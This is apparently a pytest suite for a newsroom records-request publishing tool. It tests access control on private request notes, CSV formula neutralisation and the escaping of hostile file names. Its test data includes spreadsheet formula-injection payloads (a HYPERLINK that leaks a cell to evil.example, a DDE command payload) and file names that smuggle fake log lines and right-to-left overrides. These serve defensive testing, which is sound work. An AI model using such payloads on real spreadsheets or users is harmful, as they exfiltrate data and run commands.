"""Publishing: records requests private to the desk; CSV downloads with formulas made inert;
names escaped for terminals and feeds."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from db.connect import open_db
from records.core.formulas import spreadsheet_safe
from records.core.printable import printable
from records.foia.requests import file_request
from records.publish.plugin.formulas import CsvRewriter
from tests.publish.conftest import Built, Client

NOTES = "Source: a clerk in records; negotiating the fee down"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+1+1",
    "\t=1+1",
    "-2",
    "+3.5",
    "-1,234.5",
    "plain text",
]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    work = tmp_path_factory.mktemp("private")
    db = open_db(work / "records.db")
    request_id = file_request(
        db, agency="Travis County Sheriff", subject="Detainer logs 2017",
        filed=date(2020, 1, 6), statute_days=10, business_days=True,
    )  # fmt: skip
    db.table("requests").update(request_id, {"notes": NOTES})
    db.table("hostile_cells").insert_all(
        [{"id": n, "value": v, "number": n - 3} for n, v in enumerate(HOSTILE)], pk="id"
    )
    db.close()
    return Built(db=work / "records.db", archive=work / "archive", workdir=work)


@pytest.fixture(scope="module")
def anonymous(built: Built) -> Iterator[Client]:
    client = Client(built)
    yield client
    client.close()


@pytest.fixture(scope="module")
def desk(built: Built) -> Iterator[Client]:
    client = Client(built, desk=True)
    yield client
    client.close()


PRIVATE_PAGES = [
    "requests", "requests.json", "requests.csv", "requests/1", "requests/1.json",
    "request_history", "request_history.json", "requests_status", "requests_status.json",
    "request_documents.json", "overdue_requests", "overdue_requests.json",
    "documents_received_this_week.json",
]  # fmt: skip


@pytest.mark.parametrize("page", PRIVATE_PAGES)
def test_anonymous_visitor_cannot_read_records_requests(anonymous: Client, page: str) -> None:
    response = anonymous.get(f"/{anonymous.db}/{page}")
    assert response.status_code == 403
    assert NOTES not in response.text
    assert "Detainer logs" not in response.text


@pytest.mark.parametrize(
    "sql",
    [
        "select notes from requests",
        'select * from "REQUESTS"',
        "select * from [request_history]",
        "select * from requests_status",  # a view on them
        "with r as (select * from requests) select * from r",
        "select (select group_concat(notes) from requests) as leaked",
    ],
)
def test_anonymous_sql_cannot_read_records_requests(anonymous: Client, sql: str) -> None:
    response = anonymous.get(f"/{anonymous.db}.json", params={"sql": sql})
    assert response.status_code == 403
    assert NOTES not in response.text


def test_anonymous_where_clause_cannot_read_records_requests(anonymous: Client) -> None:
    where = "value in (select notes from requests)"
    response = anonymous.get(f"/{anonymous.db}/hostile_cells.json", params={"_where": where})
    assert response.status_code == 403


def test_the_rest_stays_public(anonymous: Client) -> None:
    data = anonymous.json(f"/{anonymous.db}.json?sql=select+count(*)+as+n+from+hostile_cells")
    assert data["rows"] == [[len(HOSTILE)]]
    assert anonymous.get(f"/{anonymous.db}/hostile_cells").status_code == 200


def test_logged_in_desk_reads_requests_and_notes(desk: Client) -> None:
    rows = desk.json(f"/{desk.db}/requests.json?_shape=objects")["rows"]
    assert [(r["id"], r["subject"], r["notes"]) for r in rows] == [(1, "Detainer logs 2017", NOTES)]
    data = desk.json(f"/{desk.db}.json?sql=select+notes+from+requests&_shape=objects")
    assert data["rows"] == [{"notes": NOTES}]


def test_desk_logs_in_through_the_trusted_proxy_header(built: Built, tmp_path: Path) -> None:
    from records.core.paths import Paths
    from records.publish.serve import build_datasette

    sources = tmp_path / "sources.toml"
    sources.write_text(
        '[settings]\ndesk_header = "X-Records-User"\n[[source]]\nname = "x"\n'
        'url = "https://agency.example.gov/"\nlink_regex = "pdf$"\nparser = "ice-ddor"\n',
        encoding="utf-8",
    )
    client = Client(built)
    client.ds = build_datasette(Paths(db=built.db, archive=built.archive, sources=sources))
    try:
        path = f"/{client.db}/requests.json?_shape=objects"
        assert client.get(path).status_code == 403
        rows = client.get(path, headers={"X-Records-User": "maria"}).json()["rows"]
        assert [r["notes"] for r in rows] == [NOTES]
        # The header counts only from a proxy on this machine (the test client is 127.0.0.1).
        from records.publish.plugin.desk import actor_from_header

        scope = {"client": ("203.0.113.9", 5000), "headers": [(b"x-records-user", b"maria")]}
        assert actor_from_header(client.ds, scope) is None
        scope["client"] = ("127.0.0.1", 5000)
        assert actor_from_header(client.ds, scope) == {"id": "maria", "desk": "true"}
    finally:
        client.close()


def test_csv_download_neutralises_formulas_and_json_keeps_them(anonymous: Client) -> None:
    for path in ("hostile_cells.csv", "hostile_cells.csv?_stream=on&_dl=1"):
        response = anonymous.get(f"/{anonymous.db}/{path}")
        assert response.status_code == 200, path
        rows = list(csv.reader(io.StringIO(response.text, newline="")))
        assert rows[0] == ["id", "value", "number"]
        assert [row[1] for row in rows[1:]] == [
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
            "'-2+3+cmd|' /C calc'!A0",
            "'@SUM(A1:A9)",
            "'+1+1",
            "'\t=1+1",
            "-2",
            "+3.5",
            "-1,234.5",
            "plain text",
        ]
        assert [row[2] for row in rows[1:]] == [str(n - 3) for n in range(len(HOSTILE))]
    data = anonymous.json(f"/{anonymous.db}/hostile_cells.json?_shape=array")
    assert [row["value"] for row in data] == HOSTILE
    query = anonymous.get(f"/{anonymous.db}.csv", params={"sql": "select value from hostile_cells"})
    assert query.text.splitlines()[3] == "'@SUM(A1:A9)"


def test_csv_rewriter_keeps_records_split_across_chunks() -> None:
    text = b'a,b\r\n"=1,\r\n2",x\r\n"say ""=hi""",-3\r\n@last,4'
    for size in (1, 2, 3, 7, len(text)):
        rewriter = CsvRewriter()
        chunks = [text[i : i + size] for i in range(0, len(text), size)]
        out = b"".join(rewriter.feed(c, final=i == len(chunks) - 1) for i, c in enumerate(chunks))
        assert out.decode() == 'a,b\r\n"\'=1,\r\n2",x\r\n"say ""=hi""",-3\r\n\'@last,4\r\n', size


def test_spreadsheet_safe_leaves_numbers_alone() -> None:
    assert [spreadsheet_safe(v) for v in ("-2", "+3", "1e5", "-1e-3", "12%", "", "a=b")] == [
        "-2", "+3", "1e5", "-1e-3", "12%", "", "a=b",
    ]  # fmt: skip
    assert spreadsheet_safe("-") == "'-"
    assert spreadsheet_safe("=1+2") == "'=1+2"


def test_printable_escapes_newlines_controls_and_direction_overrides() -> None:
    assert printable("report.pdf") == "report.pdf"
    assert printable("Peñasco – 2017 年.pdf") == "Peñasco – 2017 年.pdf"
    assert printable("a.pdf\nrun 7: 0 error(s)") == "a.pdf\\nrun 7: 0 error(s)"
    assert printable("invoice\u202efdp.exe") == "invoice\\u202efdp.exe"
    assert printable("x\x1b[2Jy\r") == "x\\x1b[2Jy\\r"


def test_hostile_file_name_is_escaped_in_terminal_output_and_the_feed(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from records.cli import cli

    name = "cases\nrun 9: 0 new document(s)\u202evsc.csv"
    hostile = tmp_path / name
    hostile.write_bytes(b"case,county\n15-0109,Milwaukee\n")
    broken = tmp_path / "x\x1b[2J\u202e.csv"
    broken.write_bytes(b"case,county\n15-0110,Mil\x00waukee\n")  # fails: its name is in the error
    db, archive = tmp_path / "records.db", tmp_path / "archive"
    result = CliRunner().invoke(
        cli, ["--db", str(db), "--archive", str(archive), "add", str(hostile), str(broken)]
    )
    output = result.output + (result.stderr if result.stderr_bytes is not None else "")
    assert "cases\\nrun 9: 0 new document(s)\\u202evsc.csv" in output
    assert "x\\x1b[2J\\u202e.csv: unsupported file type" in output
    assert "\u202e" not in output and "\x1b[2J" not in output
    assert not any(line.startswith("run 9:") for line in output.splitlines())
    client = Client(Built(db=db, archive=archive, workdir=tmp_path))
    try:
        feed = client.get(f"/{client.db}/new_documents.atom").text
    finally:
        client.close()
    # The entry's title is the document's edition: its name, escaped, and its period.
    assert (
        "<title>cases\\nrun 9: 0 new document(s)\\u202evsc.csv (period not stated)</title>" in feed
    )
    assert "\u202e" not in feed.split("<title>", 2)[2]


def test_extract_csv_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    from records.cli.extracting import to_csv

    tables = [{"table": "t", "columns": ["a", "b"], "rows": [["=1+2", -2], ["@x", 3.5]]}]
    assert to_csv(tables) == "table,a,b\nt,'=1+2,-2\nt,'@x,3.5\n"
    assert to_csv(tables, neutralise=False) == "table,a,b\nt,=1+2,-2\nt,@x,3.5\n"
